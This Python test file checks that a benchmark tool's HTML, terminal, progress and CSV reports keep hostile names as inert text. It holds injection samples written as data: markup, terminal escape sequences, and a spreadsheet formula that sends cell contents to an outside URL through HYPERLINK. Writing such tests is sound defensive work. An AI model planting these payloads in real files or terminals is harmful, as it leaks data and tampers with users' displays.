"""Names from strangers in the report, the table and on the terminal: they stay text."""

from __future__ import annotations

import csv as spreadsheet
import io
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, List

import pytest

from iobench.analysis.suite import analyse
from iobench.report import csv, html, terminal
from iobench.report.progress import Reporter
from iobench.report.screen import Screen
from tests.build import hostile
from tests.build import report as fixture

#: Harmless, of the same kind as a hostile name: it leads to the same page but for the text.
PLAIN = " plain"


class Outline(HTMLParser):
    """Every element with the names of its attributes, and all text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: Counter[Any] = Counter()
        self.scripts: List[str] = []
        self.links: List[str] = []
        self._open = ""

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self._open = tag
        names = tuple(sorted(name for name, _ in attrs))
        if tag not in DRAWN:
            self.elements[tag, names] += 1
        assert not any(name.startswith("on") for name in names), attrs
        self.links += [v for n, v in attrs if n in ("href", "src", "xlink:href", "action")]

    def handle_data(self, data: str) -> None:
        if self._open == "script":
            self.scripts.append(data.strip())

    def handle_endtag(self, tag: str) -> None:
        self._open = ""


#: What a chart's own text is drawn by: its number is that of the letters.
DRAWN = {"g", "path", "use", "defs", "clippath", "rect", "style"}


def outline(evil: str) -> Outline:
    plan, records = hostile.suite(evil)
    parsed = Outline()
    parsed.feed(html.render(plan, records, analyse(plan, records)))
    return parsed


def test_no_element_attribute_or_script_comes_from_a_name() -> None:
    usual, found = outline(PLAIN), outline(hostile.ALL)
    assert found.elements == usual.elements
    assert found.scripts == usual.scripts
    assert {link for link in found.links if not link.startswith("#")} == {"data:,"}


def test_the_names_do_reach_the_page() -> None:
    """Else the tests above would hold for a page that shows none of them."""
    plan, records = hostile.suite("<EVIL>")
    page = html.render(plan, records, analyse(plan, records))
    assert "<EVIL>" not in page
    places = [re.escape("torch:lmdb"), "node17", "/scratch/imagenet-like", "AMD EPYC 7543"]
    for place in places:
        assert re.search(f"{place}&lt;EVIL&gt;", page), place
    assert len(re.findall('aria-label="[^"]*&lt;EVIL&gt;', page)) >= 5


def test_a_name_does_nothing_to_a_terminal() -> None:
    plan, records = hostile.suite(hostile.ALL)
    out = io.StringIO()
    terminal.render(analyse(plan, records), Screen(file=out, width=200, force_terminal=True))
    text = out.getvalue()
    ours = re.sub(r"\x1b\[[0-9;]*m", "", text)  # colours and bold are rich's own
    assert ours.replace("\n", "").isprintable()
    usual = io.StringIO()
    plan, records = hostile.suite(PLAIN)
    terminal.render(analyse(plan, records), Screen(file=usual, width=200, force_terminal=True))
    assert set(re.findall(r"\x1b\[[0-9;]*m", text)) <= set(
        re.findall(r"\x1b\[[0-9;]*m", usual.getvalue())
    )
    assert "[/bold][link=http://x]a" in ours


@pytest.mark.parametrize("force_terminal", [True, False])
@pytest.mark.parametrize("kind", hostile.NAMES)
def test_a_name_does_nothing_to_the_progress(kind: str, force_terminal: bool) -> None:
    out, name = io.StringIO(), hostile.NAMES[kind]
    screen = Screen(file=out, width=200, force_terminal=force_terminal, _environ={"TERM": "xterm"})
    with Reporter(screen) as reporter:
        reporter.step(name, 1, 2, name)
        reporter.say(name)
    for acting in ("\x07", "\x9b", "\x00", "\x08", "\u202e", "\x1b]0", "\x1b[2J\x1b[31m"):
        assert acting not in out.getvalue()


@pytest.mark.parametrize("formula", hostile.FORMULAS)
def test_no_cell_is_a_formula(formula: str, tmp_path: Path) -> None:
    evil = f'{formula}HYPERLINK("http://x?"&A1,"ok")\n=2'
    plan, records = hostile.suite(evil, first=True)
    csv.write_csv(tmp_path / "trials.csv", plan, records)
    with open(tmp_path / "trials.csv", newline="") as file:
        rows = list(spreadsheet.reader(file))
    cells = {cell for row in rows for cell in row}
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells - {"-"}:
        number = re.fullmatch(r"-?[0-9.e+-]+", cell)
        assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert len(rows[0]) == len({*rows[0]})
    assert {len(row) for row in rows} == {len(rows[0])}


def test_other_text_is_written_as_it_is(tmp_path: Path) -> None:
    csv.write_csv(tmp_path / "trials.csv", *fixture.suite())
    with open(tmp_path / "trials.csv", newline="") as file:
        cells = {cell for row in spreadsheet.reader(file) for cell in row}
    assert "-" in cells  # the cache state of what reads nothing
    assert not any(cell.startswith("'") for cell in cells)
